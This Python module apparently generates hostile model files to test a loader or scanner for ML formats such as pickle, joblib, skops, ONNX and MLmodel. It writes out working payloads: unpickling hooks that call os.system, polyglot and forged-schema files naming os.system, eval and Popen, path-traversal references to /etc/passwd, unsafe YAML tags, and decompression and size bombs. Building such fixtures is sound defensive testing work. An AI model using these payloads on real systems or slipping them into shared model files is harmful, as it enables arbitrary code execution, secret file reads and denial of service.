"""Model files that try to run something, read something, or break whoever reads them."""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import json
import lzma
import operator
import os
import pickle
import random
import struct
import zipfile
import zlib

import joblib
import numpy as np
from onnx import TensorProto, helper
from sklearn.linear_model import LogisticRegression
from sklearn.preprocessing import FunctionTransformer
from skops.io import dumps

SUFFIXES = ("pkl", "joblib", "pt", "npy", "skops", "keras", "h5", "zip", "onnx", "txt", "json", "ubj", "model", "lgb")
PACKERS = (lambda data: data, zlib.compress, gzip.compress, bz2.compress, lzma.compress)
X = np.random.default_rng(0).normal(size=(40, 2))
GOOD = LogisticRegression().fit(X, X[:, 0] > 0)


class Runs:
    """Runs a command when it is unpickled."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def pickles(command):
    """Pickles of every protocol, joblib's, arrays of objects, and archives of other libraries that hold one."""
    plain = [pickle.dumps(Runs(command), protocol) for protocol in range(6)]
    model = LogisticRegression().fit(X, X[:, 0] > 0)
    model.extra = Runs(command)
    out = io.BytesIO()
    joblib.dump(model, out)
    objects = io.BytesIO()
    np.save(objects, np.array([Runs(command)], dtype=object), allow_pickle=True)
    packed = io.BytesIO()
    np.savez(packed, a=np.array([Runs(command)], dtype=object))
    torch = zipped({"archive/data.pkl": plain[2], "archive/version": b"3"})
    keras = zipped({"config.json": b'{"class_name": "Lambda"}', "metadata.json": b"{}", "model.weights.h5": plain[4]})
    return [*plain, out.getvalue(), objects.getvalue(), packed.getvalue(), torch, keras]


def polyglots(command):
    """Pickles behind, before and inside what looks like another format."""
    evil = pickle.dumps(Runs(command))
    archive = zipped({"schema.json": json.dumps(node("os", "system")).encode()})
    heads = (b"tree\nversion=v4\nnum_class=1\ntree_sizes=9\n\nTree=0\n", b'{"learner": ', b"{L\0\0\0\0\0\0\0\7learner",
             b"\x08\x08", b"PK\x03\x04", b"\x89HDF\r\n\x1a\n", b"\x93NUMPY\x01\x00")  # fmt: skip
    return [head + evil for head in heads] + [evil + archive, archive + evil, evil + b"tree\n", b"\0" * 512 + evil]


def zipped(entries):
    """Return a zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def node(module, name, loader="TypeNode", **more):
    """Return the description of an object in a skops file."""
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, "protocol": 2, **more}


LOADERS = (
    "TypeNode", "FunctionNode", "MethodNode", "ObjectNode", "ReduceNode", "PartialNode", "OperatorFuncNode",
    "JsonNode", "DictNode", "ListNode", "NdArrayNode", "SliceNode", "NoSuchNode", "LogisticRegression",
)  # fmt: skip


def archives(command):
    """Skops files with types nobody trusts, forged descriptions, entries that lead elsewhere, and bombs."""
    made = [
        dumps(FunctionTransformer(os.system, kw_args={})),
        dumps(functools.partial(os.system, command)),
        dumps({"a": operator.methodcaller("system", command), "b": os}.get("a")),
        dumps([GOOD, os.system]),
    ]
    for loader in LOADERS:
        for module, name in (("os", "system"), ("builtins", "eval"), ("subprocess", "Popen"), ("..os", "system")):
            body = node(module, name, loader, content={"args": node("builtins", "str", "JsonNode", content=command)},
                        args=[command], type="x", file="0.npy", is_json=True)  # fmt: skip
            made.append(zipped({"schema.json": json.dumps(body).encode(), "0.npy": pickles(command)[7]}))
    forged = json.loads(zipfile.ZipFile(io.BytesIO(dumps(GOOD))).read("schema.json"))
    for change in ({"trusted": ["os.system"]}, {"__module__": "os", "__class__": "system"}, {"protocol": 10**9},
                   {"__id__": "x"}, {"__loader__": "../x"}, {"content": None}):  # fmt: skip
        made.append(zipped({"schema.json": json.dumps(forged | change).encode()}))
    deep = b'{"content":' * 20_000 + b"1" + b"}" * 20_000
    long, bomb = b"[" + b"0," * 10**6 + b"0]", b"\0" * 10**7
    made += [zipped({"schema.json": one}) for one in (deep, long, bomb)]
    made += [zipped({"../../escape": b"x"}), zipped({"/escape": b"x"}), b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18]
    return made


def networks(secret):
    """ONNX models with tensors in other files, at every place one can stand, and with absurd sizes."""
    made = []
    places = ("initialiser", "attribute", "sparse", "function")
    names = (
        secret,
        f"../{os.path.basename(secret)}",
        "a/../../secret",
        "/etc/passwd",
        "..\\secret",
        "%2e%2e/secret",
        "w",
    )
    for where in places:
        for name in names:
            made.append(_outside(where, name))
    big = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2**40, 2**20])
    made.append(_model([helper.make_node("Add", ["x", "w"], ["y"])], [big]))
    made.append(_model([helper.make_node("Run", ["x"], ["y"], domain="evil.ops")]))
    made += [b"\x08\x08" + b"\xff" * 100, b"\x08\x08\x3a\xff\xff\xff\xff\x0f", b"\x08\x09" + b"\x3a\x02\x0a\x00" * 1000]
    return made


def _outside(where, location):
    outside = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", "4")):
        entry = outside.external_data.add()
        entry.key, entry.value = key, value
    add = helper.make_node("Add", ["x", "w"], ["y"])
    if where == "initialiser":
        return _model([add], [outside])
    constant = helper.make_node("Constant", [], ["w"], value=outside)
    if where == "attribute":
        return _model([constant, add])
    if where == "sparse":
        return _model([add], sparse=outside)
    opset = [helper.make_opsetid("", 17)]
    function = helper.make_function("own", "f", ["x"], ["y"], [constant, add], opset)
    return _model([helper.make_node("f", ["x"], ["y"], domain="own")], functions=[function])


def _model(nodes, initialisers=(), sparse=None, functions=()):
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 1])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 1])
    graph = helper.make_graph(nodes, "g", [x], [y], list(initialisers))
    if sparse is not None:
        graph.sparse_initializer.add().values.CopyFrom(sparse)
    sets = [helper.make_opsetid("", 17), helper.make_opsetid("own", 1), helper.make_opsetid("evil.ops", 1)]
    return helper.make_model(graph, opset_imports=sets, functions=list(functions)).SerializeToString()


def giants():
    """Files whose first bytes announce more than there is."""
    return [b"{L" + struct.pack(">q", 2**62) + b"learner", b"{L" + struct.pack(">q", -1), b'{"' + b"[" * 10**5,
            b"tree\nnum_class=99999999999\ntree_sizes=" + b"9 " * 10**5 + b"\n\nTree=0\nnum_leaves=2000000000\n",
            b"tree\nversion=v4\ntree_sizes=-5\n\nTree=0\nend of trees", b"tree\n" + b"=" * 10**6,
            b"\x08\x08\x3a" + b"\xff" * 9 + b"\x7f", b'{"learner":{"learner_model_param":{"num_class":"1e99"}}}',
            b'{"learner":{"gradient_booster":{"model":{"trees":[{}]}}},"version":[3,0,0]}']  # fmt: skip


def descriptions(command):
    """``MLmodel`` texts that make objects, name files elsewhere, or bring code."""
    flavours = ("sklearn: {pickled_model: %s}", "onnx: {data: %s}", "lightgbm: {data: %s}", "xgboost: {data: %s}")
    paths = ("../secret", "/etc/passwd", "model.pkl", "link", "..", "%2e%2e/secret", "code/../../secret", '"a\\0b"')
    texts = [f"flavors: {{{one % path}}}" for one in flavours for path in paths]
    tags = ("!!python/object/apply:os.system", "!!python/object/new:os.system", "!!python/name:os.system",
            "!!python/module:os", "!!python/object:os.system")  # fmt: skip
    texts += [f"flavors: {tag} ['{command}']" for tag in tags]
    texts += ["flavors: {python_function: {loader_module: evil, data: ., code: code}}",
              "flavors: {python_function: {loader_module: mlflow.sklearn, model_path: model.pkl}}"]  # fmt: skip
    return texts


def files(command, secret):
    """Return every hostile file, (name, bytes), in an order that mixes them."""
    bare = [*pickles(command), *polyglots(command)]
    made = [(f"p{k}", pack(data)) for k, data in enumerate(bare) for pack in PACKERS]
    made += [(f"s{k}", data) for k, data in enumerate([*archives(command), *networks(secret), *giants()])]
    made += [(f"cut{k}", data[: int(len(data) * share)]) for k, data in enumerate(archives(command)[:10])
             for share in (0.05, 0.5, 0.9, 0.99)]  # fmt: skip
    named = [(f"{name}-{place}.{SUFFIXES[place % len(SUFFIXES)]}", data) for place, (name, data) in enumerate(made)]
    named += [(f"{name}-again-{place}.{SUFFIXES[(place + 5) % len(SUFFIXES)]}", data)
              for place, (name, data) in enumerate(made)]  # fmt: skip
    random.Random(1).shuffle(named)
    return named
